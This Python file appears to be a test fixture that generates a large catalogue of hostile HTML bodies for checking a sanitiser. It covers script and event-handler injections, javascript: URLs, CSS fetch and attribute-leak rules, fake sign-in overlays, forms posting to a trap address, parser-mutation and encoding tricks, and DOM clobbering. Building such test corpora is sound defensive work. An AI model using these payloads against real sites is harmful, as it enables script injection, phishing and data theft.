"""Hostile HTML bodies of our own making: each tries to run, to fetch, to submit, to cover or to break out.

`TRAP` stands for the address of a server that no reader may ever ask, `RUN` for a script that would tell of itself.
"""

from __future__ import annotations

import base64
from collections.abc import Iterator
from dataclasses import dataclass
from html import escape

TRAP = "http://127.0.0.1:9/trap"
RUN = "window.ran=parent.ran=top.ran=1"


@dataclass(frozen=True)
class Body:
    """One attack. `family` names what it tries; the html holds TRAP and RUN as they are above."""

    family: str
    html: str


def bodies() -> list[Body]:
    families = {
        "script": _scripts,
        "handler": _handlers,
        "address": _addresses,
        "style": _styles,
        "cover": _covers,
        "form": _forms,
        "head": _heads,
        "drawing": _drawings,
        "mutation": _mutations,
        "media": _media,
        "spelling": _spellings,
        "size": _sizes,
        "name": _names,
    }
    return [Body(family, html) for family, make in families.items() for html in make()]


def _scripts() -> Iterator[str]:
    for tag in ("script", "SCRIPT", "ScRiPt", "script/x", "script\n", "script\t", "script\f", "script type=module"):
        yield f"<{tag}>{RUN}</script>"
    yield f"<script src={TRAP}/a.js></script>"
    yield f"<script async defer src='{TRAP}/b.js'></script>"
    yield f"<script type=module>import '{TRAP}/c.js'</script>"
    mapped = f'<script type=importmap>{{"imports": {{"x": "{TRAP}/d.js"}}}}</script>'
    yield mapped + '<script type=module>import "x"</script>'
    yield f"<scr<script>ipt>{RUN}</scr</script>ipt>"
    yield f"<script>{RUN}"
    yield f"<script\x00>{RUN}</script>"
    yield f"<<script>{RUN}//<</script>"
    yield f"<script>/*</script><script>*/{RUN}</script>"
    yield f"<script x='</script>'>{RUN}</script>"
    yield f"<b <script>{RUN}</script>0"
    yield f"</p><script>{RUN}</script>"
    yield f"<!--><script>{RUN}</script>-->"
    yield f"<!--!><script>{RUN}</script>-->"
    yield f"<!-- --!><script>{RUN}</script>-->"
    yield f"<![CDATA[<script>{RUN}</script>]]>"
    yield f"<?xml version='1.0'?><script>{RUN}</script>"
    yield f"<%<script>{RUN}</script>%>"
    yield f"<script language=vbscript>{RUN}</script>"
    yield f"<noscript><script>{RUN}</script></noscript>"
    yield f"<template><script>{RUN}</script></template>"
    yield f"<template shadowrootmode=open><script>{RUN}</script><img src={TRAP}/shadow></template>"
    yield f"<div><template shadowrootmode=open><style>@import '{TRAP}/shadow.css'</style></template></div>"


_EVENTS = (
    "abort animationend animationstart auxclick beforetoggle blur canplay change click contextmenu "
    "cuechange dblclick drag dragend dragstart drop durationchange ended error focus focusin focusout "
    "formdata gotpointercapture hashchange input invalid keydown keypress keyup load loadeddata loadstart "
    "message mousedown mouseenter mouseover mouseup mousewheel pageshow paste pointerdown pointerenter "
    "pointerover popstate progress ratechange resize scroll scrollend securitypolicyviolation select "
    "slotchange submit suspend toggle touchstart transitionend transitionrun unload wheel"
)


def _handlers() -> Iterator[str]:
    for event in _EVENTS.split():
        yield f"<div style='transition: all 1ms; animation: x 1ms' tabindex=0 autofocus on{event}='{RUN}'>x</div>"
    yield f"<img src=x onerror={RUN}>"
    yield f"<img src=x onerror\n=\n'{RUN}'>"
    yield f"<img/src=x/onerror={RUN}>"
    yield f"<img src=x oNeRrOr='{RUN}'>"
    yield "<img src=x onerror=&#119;indow.ran=parent.ran=1>"
    yield f'<img src="x" title="<" onerror="{RUN}">'
    yield f"<img src=x `onerror={RUN}`>"
    yield f"<img src='x'onerror='{RUN}'>"
    yield f"<body onload='{RUN}' onpageshow='{RUN}'>text"
    yield f"<html onmouseover='{RUN}'><body>text"
    yield f"<details open ontoggle='{RUN}'><summary>x</summary>y</details>"
    yield f"<marquee onstart='{RUN}'>x</marquee>"
    yield f"<input autofocus onfocus='{RUN}'>"
    yield f"<select autofocus onfocus='{RUN}'><option>x</select>"
    yield f"<video onloadstart='{RUN}'><source onerror='{RUN}'></video>"
    yield f"<audio src=x onerror='{RUN}'></audio>"
    yield f"<a href='#x' id=x tabindex=1 onfocus='{RUN}' autofocus>x</a>"
    yield f"<div popover id=p onbeforetoggle='{RUN}'>x</div><button popovertarget=p autofocus>open</button>"
    yield f"<dialog open oncancel='{RUN}' onclose='{RUN}'>x</dialog>"
    yield f"<xss contenteditable autofocus onfocus='{RUN}'>x</xss>"


def _addresses() -> Iterator[str]:
    for scheme in (
        f"javascript:{RUN}",
        f"JaVaScRiPt:{RUN}",
        f" javascript:{RUN}",
        f"java\tscript:{RUN}",
        f"java\nscript:{RUN}",
        f"java&#10;script:{RUN}",
        f"&#106;avascript:{RUN}",
        f"&#x6A&#x61vascript:{RUN}",
        f"javascript&colon;{RUN}",
        f"\x01javascript:{RUN}",
        f"javascript://%0a{RUN}",
        f"data:text/html,<script>{RUN}</script>",
        "data:text/html;base64," + base64.b64encode(f"<script>{RUN}</script>".encode()).decode(),
        f"vbscript:{RUN}",
        f"feed:javascript:{RUN}",
        f"view-source:javascript:{RUN}",
        f"blob:{RUN}",
    ):
        yield f'<iframe src="{scheme}"></iframe>'
        yield f'<a href="{scheme}" autofocus>press</a>'
    for tag in ("iframe src", "frame src", "embed src", "object data", "portal src", "fencedframe src", "applet code"):
        yield f"<{tag}={TRAP}/{tag.split()[0]}></{tag.split()[0]}>"
    yield f"<iframe srcdoc='<script>{RUN}</script><img src={TRAP}/srcdoc>'></iframe>"
    yield f"<frameset><frame src={TRAP}/frameset></frameset>"
    yield f"<object type=text/html data={TRAP}/object><param name=src value={TRAP}/param></object>"
    yield f"<object classid=clsid:x codebase={TRAP}/codebase></object>"
    yield f"<a href=http://safe.example ping={TRAP}/ping>press</a>"
    yield f"<area href={TRAP}/area ping={TRAP}/ping><map name=m><area href={TRAP}/area></map>"
    yield f"<q cite={TRAP}/cite>x</q><del cite={TRAP}/cite>x</del>"


_PROPERTIES = (
    "background background-image border-image border-image-source clip-path content cursor filter list-style "
    "list-style-image mask mask-image mask-border -webkit-mask-image -webkit-border-image -webkit-box-reflect "
    " shape-outside offset-path marker-start fill stroke src behavior -moz-binding"
)


def _styles() -> Iterator[str]:
    for name in _PROPERTIES.split():
        yield f"<div style='display:block;height:20px;{name}:url({TRAP}/{name})'>x</div>"
    for value in (
        f"u\\72l({TRAP}/escape)",
        f"\\75\\72\\6c({TRAP}/escapes)",
        f"URL({TRAP}/case)",
        f"url/**/({TRAP}/comment)",
        f"url(\n{TRAP}/newline)",
        f'url("{TRAP}/quotes")',
        f"image-set('{TRAP}/set' 1x)",
        f"-webkit-image-set(url({TRAP}/wset) 1x)",
        f"image('{TRAP}/image')",
        f"cross-fade(url({TRAP}/fade), red)",
        f"var(--x, url({TRAP}/var))",
        f"paint(x), url({TRAP}/paint)",
        f"-moz-element(#x), url({TRAP}/element)",
        f"expression({RUN})",
        f"src('{TRAP}/src')",
        "attr(title type(<url>))",
    ):
        yield f'<div title="{TRAP}/attr" style="height:20px;background:{escape(value)}">x</div>'
    sheets = (
        f"@import '{TRAP}/import.css';",
        f"@import url({TRAP}/import2.css);",
        f"@im\\70ort '{TRAP}/import3.css';",
        f"@font-face {{ font-family: f; src: url({TRAP}/font) }} * {{ font-family: f }}",
        f"@namespace url({TRAP}/ns);",
        f"@property --x {{ syntax: '*'; inherits: false; initial-value: url({TRAP}/p) }} p {{ background: var(--x) }}",
        f"* {{ background: url({TRAP}/star) }}",
        f"input[value^='a'] {{ background: url({TRAP}/leak-a) }}",
        f"a[href*=m] {{ background: url({TRAP}/leak-href) }}",
        f":root {{ background: url({TRAP}/root) }}",
        f"body::before {{ content: url({TRAP}/before) }}",
        f"@media screen {{ p {{ background: url({TRAP}/media) }} }}",
        f"@supports (color: red) {{ p {{ background: url({TRAP}/supports) }} }}",
        f"@container (width > 1px) {{ p {{ background: url({TRAP}/container) }} }}",
        f"p {{ cursor: url({TRAP}/cur), auto }}",
        f"@counter-style x {{ system: cyclic; symbols: url({TRAP}/c) }} li {{ list-style: x }}",
        f"@keyframes k {{ to {{ background-image: url({TRAP}/k) }} }} p {{ animation: k 1ms forwards }}",
        f"</style><script>{RUN}</script>",
        f"<!-- </style><img src={TRAP}/x onerror={RUN}> -->",
    )
    for sheet in sheets:
        yield f"<style>{sheet}</style><p>x</p><ul><li>y</li></ul>"
    yield f"<style/src={TRAP}/x>@import '{TRAP}/y';</style>"
    yield f"<link rel=stylesheet href={TRAP}/link.css><p>x</p>"
    yield f"<p style='background:red;</style><img src={TRAP}/brk onerror={RUN}>'>x</p>"
    yield f"<p style=\"font-family:'x;background:url({TRAP}/ff)'\">x</p>"
    yield f"<font face='x;background:url({TRAP}/face)' color='red;background:url({TRAP}/color)'>x</font>"


def _covers() -> Iterator[str]:
    """Over the page around: only inside the frame may they ever be seen."""
    box = "top:0;left:0;width:100vw;height:100vh;background:white;z-index:2147483647"
    for position in ("fixed", "absolute", "sticky", "relative", "FIXED", "fi\\78 ed", "fixed !important", "static"):
        yield f"<div style='position:{position};{box}'>Enter your passcode again</div>"
        yield f"<font color='red;position:{position};{box}'>Enter your passcode again</font>"
    for style in (
        "margin:-9999px",
        "margin-top:-100vh;height:200vh",
        "transform:translateY(-500px) scale(50)",
        "translate:0 -500px",
        "scale:100",
        "inset:0;position:fixed",
        "width:999999px;height:999999px",
        "float:left;margin-left:-500px",
        "zoom:100",
        "view-transition-name:root",
        "position-anchor:--x;position:fixed",
        "top-layer:auto;overlay:auto !important",
        "display:contents;contain:none",
        "font-size:99999px",
        "letter-spacing:-99px;line-height:0",
        "text-indent:-99999px",
        "overscroll-behavior:contain;overflow:scroll;height:100vh",
    ):
        yield f"<div style='{style};background:white'>Your session has ended. Sign in again.</div>"
    yield "<dialog open style='position:fixed;inset:0'>Sign in</dialog>"
    yield "<div popover=manual style='inset:0'>Sign in</div>"
    yield "<style>body,html{position:fixed;inset:-9999px;background:red}</style><p>x</p>"
    yield "<table height=100000 width=100000 bgcolor=white><tr><td>x</td></tr></table>"
    yield "<hr size=99999 width=99999 color=white>"
    yield "<img width=99999 height=99999 hspace=9999 vspace=9999 src='data:image/gif;base64,R0lGODlhAQABAAAAACw='>"


def _forms() -> Iterator[str]:
    yield f"<form action={TRAP}/form><input name=passcode autofocus><button>Read</button></form>"
    yield f"<form action={TRAP}/form id=f></form><button form=f>x</button>"
    yield f"<button formaction={TRAP}/b form=x>x</button><form id=x></form>"
    yield f"<form><input type=image src={TRAP}/image formaction={TRAP}/fa></form>"
    yield f"<isindex action={TRAP}/isindex>"
    yield f"<form method=dialog action={TRAP}/d><button autofocus>x</button></form>"
    yield f"<form action='javascript:{RUN}'><input type=submit autofocus></form>"
    yield "<input type=password autocomplete=current-password><input autocomplete=one-time-code>"
    yield f"<keygen autofocus challenge={TRAP}>"
    yield f"<textarea form=x dirname={TRAP}>x</textarea>"
    yield f"<form><button formtarget=_top formaction={TRAP}/top>x</button></form>"
    yield "<label for=code>passcode</label><input id=code name=code>"
    yield f"<select onchange={RUN}><option>a<option>b</select><datalist><option value={TRAP}></datalist>"
    yield f"<output form=x onformdata={RUN}>x</output><fieldset form=x><legend>x</legend></fieldset>"


_RELATIONS = (
    "stylesheet icon preload prefetch prerender preconnect dns-prefetch modulepreload manifest import alternate next"
)


def _heads() -> Iterator[str]:
    yield f"<meta http-equiv=refresh content='0;url={TRAP}/refresh'>"
    yield f"<META HTTP-EQUIV='Refresh' CONTENT='0; URL={TRAP}/refresh2'>"
    yield f"<meta content='0;url={TRAP}/refresh3' http-equiv=&#114;efresh>"
    yield f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>"
    yield f"<meta http-equiv=refresh content='0;url=data:text/html,<script>{RUN}</script>'>"
    yield "<meta http-equiv=Set-Cookie content='session=x'>"
    yield "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">"
    yield "<meta http-equiv=Content-Type content='text/html; charset=utf-7'>"
    yield "<meta name=referrer content=unsafe-url><p>x</p>"
    yield "<meta name=viewport content='width=9999'><meta name=color-scheme content=dark>"
    yield f"<base href={TRAP}/><img src=relative.png><a href=next>x</a>"
    yield f"<base target=_top href={TRAP}/base/><p>x</p>"
    for rel in _RELATIONS.split():
        yield f"<link rel={rel} as=image href={TRAP}/{rel}>"
    yield f"<link rel='preload stylesheet' as=style href={TRAP}/both onload={RUN}>"
    yield f"<title>owned</title><title><img src={TRAP}/title onerror={RUN}></title>"
    yield f"<html manifest={TRAP}/manifest><head profile={TRAP}/profile><p>x</p>"
    yield f"<bgsound src={TRAP}/bgsound><basefont face={TRAP}><nextid n={TRAP}>"
    yield f'<script type=speculationrules>{{"prefetch":[{{"source":"list","urls":["{TRAP}/spec"]}}]}}</script>'


def _drawings() -> Iterator[str]:
    yield f"<svg onload='{RUN}'></svg>"
    yield f"<svg/onload={RUN}>"
    yield f"<svg><script>{RUN}</script></svg>"
    yield f"<svg><script xlink:href={TRAP}/s.js /></svg>"
    yield f"<svg><image href={TRAP}/image width=9 height=9 /></svg>"
    yield f"<svg><image xlink:href={TRAP}/ximage width=9 height=9 /></svg>"
    yield f"<svg><use href={TRAP}/use#x /></svg>"
    yield f"<svg><feImage href={TRAP}/fe /></svg>"
    yield f"<svg><a xlink:href='javascript:{RUN}'><text y=9>press</text></a></svg>"
    yield f"<svg><animate onbegin='{RUN}' attributeName=x dur=1s></svg>"
    yield f"<svg><a><animate attributeName=href values='javascript:{RUN}'></animate><text>x</text></a></svg>"
    yield f"<svg><set attributeName=onload to='{RUN}'></svg>"
    yield f"<svg><foreignObject><iframe src={TRAP}/fo></iframe></foreignObject></svg>"
    yield f"<svg><style>@import '{TRAP}/svg.css';</style></svg>"
    yield f"<svg><filter id=f><feImage xlink:href={TRAP}/f /></filter><rect filter=url(#f) width=9 height=9 /></svg>"
    yield f"<svg><linearGradient id=g xlink:href={TRAP}/g#g /><rect fill=url({TRAP}/g2) width=9 height=9 /></svg>"
    yield f"<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>{RUN}</handler></svg>"
    yield f"<svg><title><img src={TRAP}/t onerror={RUN}></title></svg>"
    yield f"<svg><desc><script>{RUN}</script></desc></svg>"
    yield f"<math><mtext><script>{RUN}</script></mtext></math>"
    yield f"<math href='javascript:{RUN}'>press</math>"
    yield f"<math><maction actiontype=statusline xlink:href='javascript:{RUN}'>x</maction></math>"
    yield f"<math><annotation-xml encoding=text/html><img src={TRAP}/m onerror={RUN}></annotation-xml></math>"
    yield f"<math><mglyph src={TRAP}/glyph></math>"
    yield f'<img src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"/>\'>'
    picture = f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{TRAP}/in"/><script>{RUN}</script></svg>'
    yield f"<img src='data:image/svg+xml;base64,{base64.b64encode(picture.encode()).decode()}'>"
    yield f"<xml><i><b><img src={TRAP}/xml onerror={RUN}></b></i></xml>"
    yield f"<vmlframe xmlns=urn:schemas-microsoft-com:vml style='behavior:url(#default#vml)' src={TRAP}/vml></vmlframe>"


def _mutations() -> Iterator[str]:
    """Markup that one parser reads as text and the next as elements."""
    bad = f"<img src={TRAP}/mutation onerror={RUN}>"
    hidden = f'<a title="</{{0}}>{bad}">'
    for tag in (
        "style",
        "title",
        "textarea",
        "noscript",
        "xmp",
        "iframe",
        "noembed",
        "noframes",
        "template",
        "plaintext",
    ):
        yield f"<{tag}>{hidden.format(tag)}</{tag}>"
        yield f"<svg><{tag}>{hidden.format(tag)}"
        yield f"<math><mtext><table><mglyph><{tag}><!--</{tag}>{bad}"
    yield f"<form><math><mtext></form><form><mglyph><style></math>{bad}"
    yield f'<svg></p><style><a id="</style>{bad}">'
    yield f"<table><style><a title='</style>{bad}'></table>"
    yield f"<p><select><template><style><!--</style>{bad}--></select>"
    yield f'<noscript><p title="</noscript>{bad}"></noscript>'
    yield f"<p title='--><!--'><!-- ' -->{bad}"
    yield f"<a href='\"><'>{bad}</a>"
    yield f'<div id="a"x="<b title=\'"{bad}\'>">'
    yield f"<option><style></option></select><b><xmp></style>{bad}</xmp></b>"
    yield f"<!--><!---->{bad}<!-->{bad}"
    yield f"<b title=`>{bad}`>x</b>"
    yield f"<image src={TRAP}/image onerror={RUN}>"
    yield f'<img alt="`><script>{RUN}</script>" src={TRAP}/alt>'
    yield f'<svg><p><style><g title="</style>{bad}"></svg>'
    yield f"<a><table><a>{bad}</a></table></a><b><p><b>{bad}"
    yield f"<ruby><rtc><svg><desc><select></desc>{bad}"
    yield f"&lt;img src={TRAP}/twice onerror={RUN}&gt;&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;"


def _media() -> Iterator[str]:
    yield f"<img src={TRAP}/img>"
    yield "<img src=//127.0.0.1:9/trap/relative>"
    yield "<img src='\\\\127.0.0.1:9\\trap\\unc'>"
    yield f"<img srcset='{TRAP}/1x 1x, {TRAP}/2x 2x'>"
    yield f"<picture><source srcset={TRAP}/source><img alt=x></picture>"
    yield f"<video src={TRAP}/video poster={TRAP}/poster autoplay></video>"
    yield f"<audio src={TRAP}/audio autoplay><track src={TRAP}/track default></audio>"
    yield f"<video><source src={TRAP}/vs></video>"
    yield f"<body background={TRAP}/body>text"
    for tag in ("table", "td", "th", "tr", "div", "p"):
        yield f"<table><tr><td><{tag} background={TRAP}/{tag}>x</{tag}></td></tr></table>"
    yield f"<img lowsrc={TRAP}/low dynsrc={TRAP}/dyn longdesc={TRAP}/long usemap={TRAP}#m>"
    yield f"<img src=x fetchpriority=high importance=high crossorigin=use-credentials srcset={TRAP}/cred>"
    yield f"<img src='cid:none' data-src={TRAP}/lazy loading=lazy>"
    yield "<img src='http:&#9;//127.0.0.1:9/trap/tab'>"
    yield "<img src='ht\ntp://127.0.0.1:9/trap/newline'>"
    yield f"<img src=' {TRAP}/space'>"
    yield "<img src='ftp://127.0.0.1:9/trap'><img src='ws://127.0.0.1:9/trap'>"
    yield "<img src='/sign-out/'><img src='/inbox/'><img src='../../admin/'>"
    yield f"<img src='data:image/png;base64,x' onerror={RUN}>"


def _spellings() -> Iterator[str]:
    yield f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-"
    yield f"\ufeff<script>{RUN}</script>"
    yield f"<\u200bscript>{RUN}</script><script\u200b>{RUN}</script>"
    yield f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e"
    yield f"<s\u0441ript>{RUN}</s\u0441ript><script>{RUN}</\u017fcript>"
    yield f"<\x00s\x00c\x00r\x00i\x00p\x00t\x00>{RUN}</script>"
    yield f"%3Cscript%3E{RUN}%3C/script%3E"
    yield f"&#60script&#62{RUN}&#60/script&#62"
    yield f"<img src=x onerror\u3000={RUN}>"
    yield f"<img src=x onerror\x0b={RUN}>"
    yield f"<img\x0bsrc=x\x0bonerror={RUN}>"
    yield f"<a href='javas\u00adcript:{RUN}'>x</a><iframe src='javas\u200bcript:{RUN}'></iframe>"
    yield f"<p>\u202e{RUN}\u202c</p><script>{RUN}</script>"
    yield f"\x1b$B<script>{RUN}</script>\x1b(B"
    yield "\udcff<script>".encode("utf-8", "replace").decode() + f"{RUN}</script>"


def _sizes() -> Iterator[str]:
    end = f"<script>{RUN}</script><img src={TRAP}/end>"
    yield "<div>" * 5_000 + end
    yield "<table><tr><td>" * 2_000 + end
    yield "<b><i><u>" * 3_000 + end
    yield "<p " + " ".join(f"a{number}=1" for number in range(20_000)) + f" onclick={RUN}>x</p>{end}"
    yield f"<p title='{'x' * 500_000}'>{end}"
    yield "<!--" + "-" * 200_000 + f"-->{end}"
    yield "&amp;" * 100_000 + end
    yield "<" * 100_000 + end
    yield f"<p style='{'color:red;' * 50_000}background:url({TRAP}/long)'>x</p>"
    yield "<select>" * 2_000 + end
    yield "<svg>" * 2_000 + end
    yield f"<a href='http://{'a' * 100_000}.example'>x</a>{end}"


def _names() -> Iterator[str]:
    """Elements named like what a script of the page would look for."""
    for name in (
        "document",
        "body",
        "location",
        "parent",
        "top",
        "csrfmiddlewaretoken",
        "code",
        "errors",
        "main",
        "__proto__",
    ):
        yield f"<img name={name} id={name}><a id={name} href='tel:{name}'>x</a><form name={name}></form>"
